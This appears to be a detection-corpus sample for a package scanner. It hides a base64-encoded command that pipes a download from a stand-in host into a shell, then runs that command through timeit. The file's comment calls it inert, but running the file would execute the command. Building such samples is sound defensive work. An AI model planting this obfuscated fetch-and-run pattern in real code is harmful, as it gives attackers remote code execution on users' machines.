# pkgguard corpus 705 (indirection), modelled on [obfuscation]; inert, never run.
import base64
import timeit

_STMT = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2N1cmwgLXMgaHR0cHM6Ly90aS1iZW5jaC5leGFtcGxlL3ggfCBzaCcp"
timeit.timeit(base64.b64decode(_STMT).decode(), number=1)
